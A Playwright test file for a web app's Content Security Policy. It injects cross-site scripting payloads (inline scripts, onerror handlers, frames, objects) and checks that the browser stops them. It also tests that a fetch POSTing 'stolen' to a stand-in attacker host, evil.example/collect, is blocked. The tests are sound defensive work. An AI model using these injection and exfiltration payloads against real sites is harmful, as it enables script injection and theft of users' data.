import type { Page } from '@playwright/test';
import { aSignedUpRider } from '../support/a-signed-up-rider.ts';
import { expect, test } from '../support/test.ts';

/** Puts markup into the page as an attacker would, who finds a way to have scripts started, too. */
const inject = (page: Page, markup: string) =>
  page.evaluate((html) => {
    document.body.insertAdjacentHTML('beforeend', html);
    for (const inert of document.querySelectorAll('body script')) {
      const script = document.createElement('script');
      script.textContent = inert.textContent;
      if (inert.hasAttribute('src')) script.src = inert.getAttribute('src') ?? '';
      inert.replaceWith(script);
    }
  }, markup);

/** The directives that have stopped something, as the console tells them. */
function directivesTold(page: Page): string[] {
  const told: string[] = [];
  page.on('console', (message) => {
    const [, directive] = /^content policy: (\S+) stopped/.exec(message.text()) ?? [];
    if (directive !== undefined) told.push(directive);
  });
  return told;
}

test.describe('what the app has not brought along does not run', () => {
  test.beforeEach(async ({ page, trouble }) => {
    trouble.expect(/content policy: |Content Security Policy|X-Frame-Options|^failed GET/);
    await page.goto('/start');
    await expect(page.getByRole('link', { name: 'Get Started' })).toBeVisible();
  });

  for (const [what, markup, directive] of [
    ['a script in the page', '<script>document.title = "taken"</script>', 'script-src-elem'],
    ['a script from elsewhere', '<script src="https://evil.example/x.js"></script>', 'script-src-elem'],
    [
      'a handler in the markup',
      '<img src="/nothing.png" onerror="document.title = \'taken\'">',
      'script-src-attr',
    ],
    ['a style in the page', '<style>body { display: none }</style>', 'style-src-elem'],
    ['an image from elsewhere', '<img src="https://evil.example/x.png?stolen=1">', 'img-src'],
    ['a frame', '<iframe src="https://evil.example/"></iframe>', 'frame-src'],
    ['an object', '<object data="https://evil.example/x.swf"></object>', 'object-src'],
  ] as const) {
    test(what, async ({ page, trouble }) => {
      trouble.expect(/^404 GET \/nothing.png/);
      const told = directivesTold(page);
      await inject(page, markup);
      await expect.poll(() => told).toContain(directive);
      expect(await page.title()).not.toBe('taken');
      await expect(page.getByRole('link', { name: 'Get Started' })).toBeVisible();
    });
  }

  test('text that is run as a script', async ({ page }) => {
    // In the page's own realm: what a test evaluates is let through by the browser's tools.
    const refusal = await page.evaluate(async () => {
      const source = URL.createObjectURL(new Blob(['export const ran = true'], { type: 'text/javascript' }));
      return import(/* @vite-ignore */ source).then(
        () => 'ran',
        () => 'stopped',
      );
    });
    expect(refusal).toBe('stopped');
  });

  test('a call to elsewhere', async ({ page }) => {
    const stopped = await page.evaluate(() =>
      fetch('https://evil.example/collect', { method: 'POST', body: 'stolen' }).then(
        () => 'sent',
        () => 'stopped',
      ),
    );
    expect(stopped).toBe('stopped');
  });
});

test('a dropdown keeps what is below it from scrolling, without a style in the page', async ({ page }) => {
  await aSignedUpRider(page);
  await page.goto('/settings');
  await page.getByRole('combobox').first().click();
  await expect(page.getByRole('listbox')).toBeVisible();
  expect(await page.evaluate(() => getComputedStyle(document.body).overflow)).toBe('hidden');
  expect(await page.locator('style').count()).toBe(0);
  await page.keyboard.press('Escape');
  await expect(page.getByRole('listbox')).toBeHidden();
  expect(await page.evaluate(() => getComputedStyle(document.body).overflow)).not.toBe('hidden');
});
